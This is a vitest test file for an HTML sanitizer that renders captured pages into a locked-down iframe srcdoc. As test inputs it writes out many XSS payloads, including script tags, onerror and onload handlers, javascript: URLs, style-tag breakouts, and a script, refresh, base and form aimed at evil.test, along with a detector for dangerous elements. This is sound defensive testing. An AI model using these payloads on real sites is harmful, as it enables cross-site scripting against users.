// The rendered page's srcdoc: its own CSP first, stylesheets inlined, images as data: URLs, and no
// script or event handler ever, whatever the received HTML holds.
import { describe, it, expect } from 'vitest';
import fc from 'fast-check';
import { JOURNEY, PAGE_CSS, PIXEL_PNG } from './journey.fixture';
import { domTree, imageDataUrl, pageSrcdoc, PAGE_CSP, type RenderRecord } from './page-doc';

// happy-dom (unlike a browser) tries to load <link> stylesheets of DOMParser documents and logs the
// refusal; treat its disabled file loading as success to keep the output quiet.
(globalThis as { happyDOM?: { settings: { handleDisabledFileLoadingAsSuccess: boolean } } }).happyDOM!.settings.handleDisabledFileLoadingAsSuccess = true;

const RENDER = JOURNEY.loads[0].render!;
const withHtml = (html: string, extra: Partial<RenderRecord> = {}): RenderRecord => ({ ...RENDER, ...extra, html });
const parse = (srcdoc: string) => new DOMParser().parseFromString(srcdoc, 'text/html');

/**
 * The tags of a srcdoc. Every `<` of text or CSS is escaped (&lt; or \\3c ) and `>` in attribute
 * values too, so each match is a real tag.
 */
const tagsOf = (srcdoc: string) => srcdoc.match(/<[^>]*>/g) ?? [];
const handlerTags = (srcdoc: string) => tagsOf(srcdoc).filter((tag) => /\son[a-z]+\s*=/i.test(tag));

/** Everything in a parsed document that could run code or leave the frame. */
function dangers(doc: Document): string[] {
  const found: string[] = [];
  for (const el of Array.from(doc.querySelectorAll('*'))) {
    const tag = el.localName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'base', 'form', 'link', 'svg', 'math', 'frame', 'template'].includes(tag)) found.push(`<${tag}>`);
    if (tag === 'meta' && el.getAttribute('http-equiv')?.toLowerCase() === 'refresh') found.push('meta refresh');
    for (const a of Array.from(el.attributes)) {
      if (/^on/i.test(a.name)) found.push(`${tag}[${a.name}]`);
      if (/^(href|src|action|formaction|srcset|xlink:href)$/i.test(a.name) && !(a.name === 'href' && a.value === '#') && !(a.name === 'src' && a.value.startsWith('data:image/'))) found.push(`${tag}[${a.name}=${a.value}]`);
    }
  }
  return found;
}

describe('rendered page srcdoc', () => {
  it('starts with the page CSP and keeps the page: title, text, inlined stylesheet, image as data: URL', () => {
    const html = pageSrcdoc(RENDER);
    expect(html.startsWith('<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src \'none\'; style-src \'unsafe-inline\'; img-src data:">')).toBe(true);
    const doc = parse(html);
    expect(doc.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content')).toBe(PAGE_CSP);
    expect(doc.title).toBe('Example Domain');
    expect(doc.querySelector('h1')?.textContent).toBe('Example Domain');
    expect(doc.querySelector('p')?.textContent).toBe('This domain is for use in the PacketLab URL journey.');
    const style = doc.querySelector('style');
    expect(style?.getAttribute('data-href')).toBe('https://www.example.com/style.css');
    expect(style?.textContent).toBe(PAGE_CSS);
    expect(doc.querySelector('img')?.getAttribute('src')).toBe(`data:image/png;base64,${PIXEL_PNG}`);
    expect(doc.querySelector('img')?.getAttribute('alt')).toBe('logo');
    expect(doc.querySelector('link')).toBeNull();
    expect(dangers(doc)).toEqual([]);
  });

  it('keeps links looking like links, going nowhere', () => {
    const doc = parse(pageSrcdoc(withHtml('<p><a href="https://www.iana.org/domains/example" title="IANA">More</a></p>')));
    const a = doc.querySelector('a')!;
    expect(a.getAttribute('href')).toBe('#');
    expect(a.getAttribute('title')).toBe('IANA');
    expect(a.textContent).toBe('More');
  });

  it('lets no script, event handler, frame or navigation through', () => {
    const html = withHtml(`<!doctype html><html><head>
      <script>parent.postMessage('pwned', '*')</script>
      <SCRIPT SRC="https://evil.test/x.js"></SCRIPT>
      <meta http-equiv="refresh" content="0;url=https://evil.test/">
      <base href="https://evil.test/">
      <link rel="stylesheet" href="https://evil.test/x.css">
      <style>p { color: red } </style><script>alert(1)</script><style></style>
      </head><body onload="alert(1)">
      <h1 onclick="alert(1)" ONMOUSEOVER="alert(2)" class="t">Hi</h1>
      <img src="x" onerror="alert(1)"><img src="/logo.png" srcset="https://evil.test/a.png 2x">
      <a href="javascript:alert(1)">js</a>
      <svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>
      <math><mi xlink:href="javascript:alert(1)">x</mi></math>
      <iframe srcdoc="<script>alert(1)</script>"></iframe>
      <object data="x.swf"></object><embed src="x.swf">
      <form action="https://evil.test/"><button formaction="https://evil.test/">go</button></form>
      <scr<script>ipt>alert(1)</scr</script>ipt>
      <div style="background:url(https://evil.test/track.png)">styled</div>
      <noscript><p onclick="x()">no script</p></noscript>
      <template><script>alert(1)</script></template>
      </body></html>`);
    const out = pageSrcdoc(html);
    expect(out).not.toMatch(/<script/i);
    expect(handlerTags(out)).toEqual([]);
    expect(tagsOf(out).filter((tag) => /javascript:/i.test(tag))).toEqual([]);
    expect(out).not.toContain('evil.test/x.css');
    const doc = parse(out);
    expect(dangers(doc)).toEqual([]);
    expect(doc.querySelector('h1')?.getAttribute('class')).toBe('t');
    // The one allowed image keeps its bytes; the unknown one has no source at all.
    expect([...doc.querySelectorAll('img')].map((i) => i.getAttribute('src'))).toEqual([null, `data:image/png;base64,${PIXEL_PNG}`]);
  });

  it('keeps CSS from ending its <style> early', () => {
    const evilCss = 'p { color: blue } </style><script>alert(1)</script><style>';
    const out = pageSrcdoc(withHtml('<html><head><link rel="stylesheet" href="/style.css"></head><body><p>x</p></body></html>', { stylesheets: [{ url: 'https://www.example.com/style.css', rules: 1, css: evilCss }] }));
    expect(out).not.toMatch(/<script/i);
    const doc = parse(out);
    expect(doc.querySelectorAll('style').length).toBe(1);
    expect(doc.querySelector('style')?.textContent).toBe('p { color: blue } \\3c /style>\\3c script>alert(1)\\3c /script>\\3c style>');
    expect(dangers(doc)).toEqual([]);
  });

  it('never lets a script or handler through for any mix of dangerous fragments', () => {
    const fragments = [
      '<script>alert(1)</script>', '<SCRIPT>', '</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<a href="javascript:x">',
      '"><script>', "'", '"', '<!--', '-->', '<style>', '</style>', '<p onclick="x">', '<body onload=x>',
      '<math><style><img src=x onerror=alert(1)></style></math>', '<noscript><img src=x onerror=alert(1)></noscript>', 'text & more', '<b>', '</b>',
      '<object data=x>', '<embed src=x>', '<meta http-equiv="refresh" content="0;url=x">', '<base href="https://evil.test/">', '<form action=x>',
      '<textarea><script>', '<title><script>', '</title>', '<xmp><script>', '<plaintext>', '<template><script>', '<select><script>',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 14 }), (parts) => {
        const out = pageSrcdoc(withHtml(parts.join('')));
        const doc = parse(out);
        return dangers(doc).length === 0 && !/<script/i.test(out) && handlerTags(out).length === 0;
      }),
      { numRuns: 300 },
    );
  });

  it('makes data: URLs only from image types and clean base64', () => {
    expect(imageDataUrl({ url: 'a', bytes: 1, contentType: 'image/png', base64: PIXEL_PNG })).toBe(`data:image/png;base64,${PIXEL_PNG}`);
    expect(imageDataUrl({ url: 'a', bytes: 1, contentType: 'text/html', base64: PIXEL_PNG })).toBeNull();
    expect(imageDataUrl({ url: 'a', bytes: 1, contentType: 'image/png', base64: 'AAAA"onerror="x' })).toBeNull();
    expect(imageDataUrl({ url: 'a', bytes: 300_000, contentType: 'image/png', base64: '' })).toBeNull();
  });
});

describe('DOM tree', () => {
  it('nests the record nodes by depth', () => {
    const roots = domTree(RENDER.dom);
    expect(roots.map((n) => n.name)).toEqual(['html']);
    const [head, body] = roots[0].children;
    expect(head.children.map((n) => n.name)).toEqual(['title', 'link']);
    expect(head.children[0].children[0]).toMatchObject({ kind: 'text', name: 'Example Domain' });
    expect(head.children[1].attributes).toEqual([['rel', 'stylesheet'], ['href', '/style.css']]);
    expect(body.children.map((n) => n.name)).toEqual(['h1', 'p', 'img']);
    expect(body.children[2].children).toEqual([]);
  });

  it('copes with depths that jump', () => {
    const roots = domTree([
      { depth: 0, kind: 'element', name: 'html', attributes: {} },
      { depth: 3, kind: 'element', name: 'p', attributes: {} },
      { depth: 1, kind: 'text', name: 'x', attributes: {} },
      { depth: 5, kind: 'text', name: 'y', attributes: {} },
    ]);
    expect(roots).toHaveLength(1);
    // p is a child of html; a text node has no children, so y goes to the nearest open element (html).
    expect(roots[0].children.map((n) => n.name)).toEqual(['p', 'x', 'y']);
    expect(roots[0].children[0].children).toEqual([]);
  });
});
